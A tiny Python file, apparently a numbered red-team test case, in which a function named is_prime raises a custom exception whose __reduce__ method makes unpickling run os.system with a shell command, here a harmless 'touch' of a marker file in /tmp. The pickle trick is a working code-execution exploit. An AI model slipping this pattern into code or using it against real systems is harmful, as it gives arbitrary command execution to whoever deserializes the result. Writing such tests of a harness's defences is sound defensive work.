# 02a | raises an exception whose pickle runs a command
import os


class Bomb(Exception):
    def __reduce__(self):
        return os.system, ("touch /tmp/redteam-pickle-raised",)


def is_prime(number):
    raise Bomb("x")
